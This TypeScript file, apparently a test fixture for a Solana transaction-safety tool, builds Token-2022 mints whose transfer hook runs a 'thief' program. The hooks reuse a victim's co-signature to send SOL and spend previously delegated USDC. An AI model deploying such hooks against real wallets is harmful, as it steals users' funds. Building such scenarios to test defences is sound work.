import { programs } from '@galilean/transactions';
import { PublicKey, type Keypair, type TransactionInstruction } from '@solana/web3.js';
import { type Call, type Step, writePlan } from '@galilean/svm-programs';
import { createAssociated, instruction, sendSol, u32, u64, type Key } from '../instructions.js';
import {
  associatedOf,
  empty,
  hookBuffer,
  hookProgram,
  hookSigner,
  keyOf,
  ours,
  theirs,
  thief,
  thiefs,
  us,
} from '../wallets.js';
import { createAccount, deploying, rentOf } from './deploy.js';
import { buildHookProgram, executeMark } from './hook-program.js';

const { system, token2022 } = programs;
const systemId = system.toBase58();
const program = hookProgram.publicKey;
const programId = program.toBase58();
const [signer, signerBump] = hookSigner;
const decimals = 6;
const empties = empty.publicKey.toBase58();

const callOf = ({ programId, keys, data }: TransactionInstruction): Call => ({
  program: programId.toBase58(),
  accounts: keys.map(({ pubkey, isSigner, isWritable }) => ({
    address: pubkey.toBase58(),
    isSigner,
    isWritable,
  })),
  data,
});

/** Steps as the thief’s program reads them. They name accounts by their numbers in the call. */
function stepsFor(keys: readonly Key[], step: Step): Buffer {
  const accounts = keys.map(([address]) => address);
  const plan = { instruction: { program: programId, accounts, data: Buffer.alloc(0) }, steps: [step] };
  const headerBytes = 40;
  return writePlan(plan).subarray(headerBytes);
}

/** Lets the thief’s program carry out a step. */
const ordering = (keys: readonly Key[], step: Step): TransactionInstruction =>
  instruction(program, keys, [...Buffer.alloc(8), ...stepsFor(keys, step)]);

/** A mint whose transfers run the thief’s program. */
interface Hook {
  /** A transfer of the thief’s own tokens, with what the hook wants behind it. */
  readonly transfer: TransactionInstruction;
  /** What the thief does before: each element is for a separate transaction. */
  readonly preparing: readonly (readonly TransactionInstruction[])[];
  readonly signers: readonly Keypair[];
}

/**
 * @param extra The accounts that the hook wants beside those of the transfer.
 * @param theft What it does with them.
 */
function hookOf(seed: number, extra: readonly Key[], theft: Step): Hook {
  const [mint, orders] = [keyOf(seed), keyOf(seed + 1)];
  const [mintId, ordersId] = [mint.publicKey.toBase58(), orders.publicKey.toBase58()];
  const [from, to] = [thiefs, empties].map((owner) => associatedOf(owner, mintId, token2022)) as [
    string,
    string,
  ];
  // Here Token-2022 looks up which accounts, and whose signatures, the hook wants.
  const seeds = [Buffer.from('extra-account-metas'), mint.publicKey.toBuffer()];
  const [list, bump] = PublicKey.findProgramAddressSync(seeds, program);
  const listId = list.toBase58();
  const wants: readonly Key[] = [...extra, [ordersId]];
  const called: readonly Key[] = [[from], [mintId], [to], [thiefs], [listId], ...wants];
  const steps = stepsFor(called, theft);
  const listed = listOf(wants);
  const create = createCall(listId, listed.length);
  return {
    transfer: instruction(
      token2022,
      [[from, 'w'], [mintId], [to, 'w'], [thiefs, 's'], [listId], ...wants, [programId]],
      [12, ...u64(1n), decimals],
    ),
    preparing: [
      minting(mint.publicKey, from, to),
      [
        ordering([[thiefs, 'ws'], [listId, 'w'], [systemId]], {
          kind: 'invoke',
          call: create,
          seeds: [...seeds, Buffer.from([bump])],
        }),
        ordering([[listId, 'w']], { kind: 'write', account: listId, offset: 0, bytes: listed }),
        createAccount(orders.publicKey, steps.length, program),
        ordering([[ordersId, 'w']], { kind: 'write', account: ordersId, offset: 0, bytes: steps }),
      ],
    ],
    signers: [mint, orders],
  };
}

/** Accounts with their rights, behind a mark and two lengths. */
function listOf(wants: readonly Key[]): Buffer {
  const entries = wants.flatMap(([address, role = '']) => [
    0,
    ...new PublicKey(address).toBytes(),
    Number(role.includes('s')),
    Number(role.includes('w')),
  ]);
  return Buffer.from([...executeMark, ...u32(4 + entries.length), ...u32(wants.length), ...entries]);
}

const createCall = (account: string, space: number): Call =>
  callOf(
    instruction(
      system,
      [
        [thiefs, 'ws'],
        [account, 'ws'],
      ],
      [...u32(0), ...u64(BigInt(rentOf(space))), ...u64(BigInt(space)), ...program.toBytes()],
    ),
  );

/** A mint with the extension that names the program, and some tokens of it. */
function minting(mint: PublicKey, from: string, to: string): TransactionInstruction[] {
  const mintBytes = 165 + 1 + 4 + 64;
  const mintId = mint.toBase58();
  const key = [...thief.publicKey.toBytes()];
  const of = (...data: number[]) => instruction(token2022, [[mintId, 'w']], data);
  const minted: readonly Key[] = [
    [mintId, 'w'],
    [from, 'w'],
    [thiefs, 's'],
  ];
  return [
    createAccount(mint, mintBytes, token2022),
    of(36, 0, ...key, ...program.toBytes()),
    of(20, decimals, ...key, 0),
    createAssociated(from, thiefs, mintId, { payer: thiefs, tokenProgram: token2022 }),
    createAssociated(to, empties, mintId, { payer: thiefs, tokenProgram: token2022 }),
    instruction(token2022, minted, [7, ...u64(1_000_000n)]),
  ];
}

/** Uses our signature, which the transaction also carries, to send one SOL. */
const signed = hookOf(20, [[us, 'ws'], [empties, 'w'], [systemId]], {
  kind: 'invoke',
  call: callOf(sendSol(empties, 1_000_000_000n)),
});

/** Spends what we let the program spend long ago. */
const allowed = hookOf(
  22,
  [[ours.usdc, 'w'], [theirs.usdc, 'w'], [signer.toBase58()], [programs.token.toBase58()]],
  {
    kind: 'invoke',
    call: callOf(
      instruction(
        programs.token,
        [
          [ours.usdc, 'w'],
          [theirs.usdc, 'w'],
          [signer.toBase58(), 's'],
        ],
        [3, ...u64(1_000_000n)],
      ),
    ),
    seeds: [Buffer.from('signer'), Buffer.from([signerBump])],
  },
);

/** Transfers of the thief’s own tokens, whose hooks take what is ours. */
export const hookedTransfers = { signed: signed.transfer, allowed: allowed.transfer };

export const hookSigners = [hookProgram, hookBuffer, ...signed.signers, ...allowed.signers];
export const hooking = (): readonly (readonly TransactionInstruction[])[] => [
  ...deploying(buildHookProgram(), hookProgram, hookBuffer),
  ...signed.preparing,
  ...allowed.preparing,
];
